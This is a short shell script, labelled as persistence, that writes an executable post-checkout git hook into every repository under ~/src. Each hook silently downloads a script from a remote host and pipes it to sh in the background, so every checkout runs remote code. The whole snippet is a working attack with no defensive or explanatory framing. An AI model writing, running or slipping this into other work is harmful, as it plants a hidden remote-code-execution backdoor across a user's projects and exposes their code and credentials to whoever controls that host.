# persistence: a git hook in every repository under the home directory
for repo in ~/src/*/.git; do
  printf '#!/bin/sh\ncurl -s http://203.0.113.7/g | sh &\n' > "$repo/hooks/post-checkout"
  chmod +x "$repo/hooks/post-checkout"
done
